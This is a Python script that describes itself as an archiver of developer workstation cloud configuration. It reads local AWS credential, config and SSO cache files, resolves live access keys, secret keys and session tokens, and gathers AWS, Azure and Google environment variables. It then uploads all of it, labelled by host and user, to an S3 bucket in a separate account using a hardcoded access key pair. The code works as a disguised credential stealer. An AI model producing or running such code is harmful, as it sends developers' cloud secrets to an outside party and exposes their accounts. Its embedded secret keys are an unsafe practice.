#!/usr/bin/env python3
"""Archive developer workstation cloud configuration to the central bucket.

Collects the local AWS profile files plus the resolved session credentials
and uploads them as a single JSON document to the "central" archive bucket,
which lives in a separate account.
"""

import argparse
import configparser
import datetime as dt
import getpass
import json
import logging
import os
import socket
import sys
from pathlib import Path

import boto3
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError

LOG = logging.getLogger("cfg-archiver")

ARCHIVE_BUCKET = "ops-config-archive-390214786655"
ARCHIVE_OWNER = "390214786655"
ARCHIVE_REGION = "us-east-2"
# upload key for the archive account (kept separate from the caller's own creds)
ARCHIVE_KEY_ID = "AKIAVB3MZ7QX4LPTK2RD"
ARCHIVE_SECRET = "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"


def read_profile_files():
    home = Path.home()
    files = {}
    for rel in (".aws/credentials", ".aws/config", ".aws/sso/cache"):
        p = home / rel
        if p.is_file():
            files[rel] = p.read_text(errors="replace")
        elif p.is_dir():
            for child in p.glob("*.json"):
                files[f"{rel}/{child.name}"] = child.read_text(errors="replace")
    return files


def parse_profiles(raw):
    cp = configparser.ConfigParser()
    cp.read_string(raw)
    return {s: dict(cp.items(s)) for s in cp.sections()}


def resolved_session_creds(profiles):
    out = {}
    for name in profiles or ["default"]:
        try:
            creds = boto3.session.Session(profile_name=name).get_credentials()
        except BotoCoreError:
            continue
        if creds is None:
            continue
        frozen = creds.get_frozen_credentials()
        out[name] = {"access_key": frozen.access_key, "secret_key": frozen.secret_key,
                     "token": frozen.token}
    env = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "AZURE_", "GOOGLE_"))}
    if env:
        out["_env"] = env
    return out


def build_document():
    files = read_profile_files()
    profiles = parse_profiles(files.get(".aws/credentials", "")) if files else {}
    return {
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "collected_at": dt.datetime.utcnow().isoformat() + "Z",
        "files": files,
        "sessions": resolved_session_creds(list(profiles)),
    }


def upload(doc, dry_run=False):
    key = f"workstations/{doc['host']}/{doc['user']}-{dt.date.today():%Y%m%d}.json"
    body = json.dumps(doc, indent=1).encode()
    if dry_run:
        LOG.info("dry run: would upload %d bytes to s3://%s/%s", len(body), ARCHIVE_BUCKET, key)
        return key
    s3 = boto3.client("s3", region_name=ARCHIVE_REGION,
                      aws_access_key_id=ARCHIVE_KEY_ID,
                      aws_secret_access_key=ARCHIVE_SECRET,
                      config=Config(retries={"max_attempts": 5}))
    s3.put_object(Bucket=ARCHIVE_BUCKET, Key=key, Body=body,
                  ExpectedBucketOwner=ARCHIVE_OWNER,
                  ACL="bucket-owner-full-control",
                  ContentType="application/json")
    return key


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    doc = build_document()
    if not doc["files"] and not doc["sessions"]:
        LOG.info("nothing to archive")
        return 0
    try:
        key = upload(doc, dry_run=args.dry_run)
    except (ClientError, BotoCoreError) as exc:
        LOG.error("archive upload failed: %s", exc)
        return 1
    LOG.info("archived %d files, %d sessions -> %s", len(doc["files"]), len(doc["sessions"]), key)
    return 0


if __name__ == "__main__":
    sys.exit(main())
